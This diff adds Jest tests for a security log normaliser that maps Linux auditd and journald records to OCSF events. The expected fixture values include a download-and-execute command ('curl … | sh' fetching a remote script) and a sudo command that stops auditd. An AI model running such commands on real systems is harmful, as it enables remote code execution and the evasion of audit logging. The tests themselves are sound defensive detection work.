@@ -1,0 +1,85 @@
+import { linux, parseAuditdLine, auditTimestamp } from '../../../shared/normalize/sources/linux';
+import { unwrapText } from '../../../shared/normalize/envelopes';
+import { normalizeBatch, normalizeRecord, recognize } from '../../../shared/normalize/registry';
+import { expectValid, fixtureText } from './helpers';
+
+describe('linux auditd', () => {
+  const { records, failures: pf } = unwrapText(fixtureText('linux', 'audit.log'));
+  const { events, failures } = normalizeBatch(records);
+
+  test('every audit.log line is a record; all map and validate', () => {
+    expect(pf).toEqual([]);
+    expect(records).toHaveLength(7);
+    expect(failures).toEqual([]);
+    expectValid(events);
+    expect(recognize(records[0])?.id).toBe('linux');
+    expect(new Set(events.map((e) => e.uid)).size).toBe(7);
+  });
+
+  test('parsing: quotes removed, hex decoded, enriched fields kept, user msg flattened', () => {
+    const [syscall, execve, , , proctitle, login] = records;
+    expect(syscall).toMatchObject({ type: 'SYSCALL', msg: 'audit(1772470000.412:30215)', syscall: '59', exe: '/usr/bin/bash', comm: 'bash', key: 'exec_log', auid: '1000', SYSCALL: 'execve', AUID: 'deploy', UID: 'root' });
+    expect(execve).toEqual({ type: 'EXECVE', msg: 'audit(1772470000.412:30215)', argc: '3', a0: 'bash', a1: '-c', a2: 'curl -s http://198.51.100.80/x.sh | sh' });
+    expect(proctitle.proctitle).toBe('bash -c curl -s http://198.51.100.80/x.sh | sh');
+    expect(login).toMatchObject({ type: 'USER_LOGIN', pid: '2301', op: 'login', acct: 'root', exe: '/usr/sbin/sshd', addr: '192.0.2.99', terminal: 'ssh', res: 'failed' });
+    // Numeric-looking hex in SYSCALL argument registers is left alone.
+    expect(syscall.a0).toBe('55d4c1e0a2b0');
+    expect(auditTimestamp('audit(1772470000.412:30215)')).toEqual({ time: 1772470000412, serial: '30215' });
+    expect(parseAuditdLine('not audit')).toBeUndefined();
+    expect(parseAuditdLine('type=SYSCALL msg=nope')).toBeUndefined();
+  });
+
+  test('execve → Process Activity with process_creation logsource', () => {
+    const [syscall, execve] = events;
+    expect(syscall.logsource).toEqual({ product: 'linux', service: 'auditd', category: 'process_creation' });
+    expect(syscall.time).toBe(1772470000412);
+    expect(syscall.ocsf).toMatchObject({ class_uid: 1007, activity_id: 1, status_id: 1, process: { pid: 2240, name: 'bash', file: { path: '/usr/bin/bash' }, parent_process: { pid: 2211 } }, actor: { user: { uid: '1000', name: 'deploy' } }, unmapped: { key: 'exec_log' } });
+    expect(execve.ocsf).toMatchObject({ class_uid: 1007, process: { cmd_line: 'bash -c curl -s http://198.51.100.80/x.sh | sh', name: 'bash' } });
+    expect(events[2].logsource).toEqual({ product: 'linux', service: 'auditd' });
+    expect(events[2].ocsf.class_uid).toBe(0);
+  });
+
+  test('USER_LOGIN failure → Authentication; ADD_USER → Account Change', () => {
+    expect(events[5].ocsf).toMatchObject({ class_uid: 3002, activity_id: 1, status_id: 2, user: { name: 'root' }, src_endpoint: { ip: '192.0.2.99' }, service: { name: 'sshd' }, is_remote: true });
+    expect(events[6].ocsf).toMatchObject({ class_uid: 3001, activity_id: 1, user: { uid: '1002' }, actor: { user: { uid: '1000' } } });
+  });
+
+  test('auditd records as JSON with a wrong type are rejected', () => {
+    expect(normalizeRecord({ ...records[0], pid: { x: 1 } })).toMatchObject({ ok: false, source: 'linux', reason: 'pid: expected a string or number' });
+    expect(normalizeRecord({ ...records[0], msg: 'audit(garbage)' })).toMatchObject({ ok: false, reason: expect.stringMatching(/^msg: not an audit timestamp/) });
+  });
+});
+
+describe('linux journald', () => {
+  const { records } = unwrapText(fixtureText('linux', 'journal.ndjson'));
+  const { events, failures } = normalizeBatch(records);
+
+  test('entries map and validate', () => {
+    expect(failures).toEqual([]);
+    expect(events).toHaveLength(5);
+    expectValid(events);
+    expect(events[0].raw).toBe(records[0]);
+    expect(events[0].uid).toBe(records[0].__CURSOR);
+    expect(events[0].time).toBe(1772470300123);
+  });
+
+  test('sshd accepted / failed → Authentication; sudo → Process Activity; services per Sigma', () => {
+    const [acc, fail, sudo, pam, kern] = events;
+    expect(acc.logsource).toEqual({ product: 'linux', service: 'sshd' });
+    expect(acc.ocsf).toMatchObject({ class_uid: 3002, status_id: 1, user: { name: 'deploy' }, src_endpoint: { ip: '198.51.100.23', port: 50522 }, auth_protocol: 'publickey', device: { hostname: 'web-01' } });
+    expect(fail.ocsf).toMatchObject({ class_uid: 3002, status_id: 2, user: { name: 'oracle' }, src_endpoint: { ip: '192.0.2.99', port: 41822 } });
+    expect(sudo.logsource).toEqual({ product: 'linux', service: 'sudo' });
+    expect(sudo.ocsf).toMatchObject({ class_uid: 1007, process: { cmd_line: '/usr/bin/systemctl stop auditd', name: 'systemctl', user: { name: 'root' } }, actor: { user: { name: 'deploy' } } });
+    expect(pam.ocsf).toMatchObject({ class_uid: 3002, activity_id: 1, user: { name: 'root' } });
+    expect(kern.logsource).toEqual({ product: 'linux', service: 'syslog' });
+    expect(kern.ocsf).toMatchObject({ class_uid: 0, severity_id: 4, message: expect.stringContaining('Out of memory') });
+  });
+
+  test('bad input', () => {
+    expect(normalizeRecord({ ...records[0], __REALTIME_TIMESTAMP: 'yesterday' })).toMatchObject({ ok: false, source: 'linux', reason: expect.stringMatching(/^__REALTIME_TIMESTAMP/) });
+    expect(normalizeRecord({ ...records[0], MESSAGE: { a: 1 } })).toMatchObject({ ok: false, reason: 'MESSAGE: expected a string or byte array' });
+    // journald exports non-UTF-8 messages as byte arrays.
+    const [e] = linux.normalize({ ...records[4], MESSAGE: [104, 105] });
+    expect(e.ocsf.message).toBe('hi');
+  });
+});
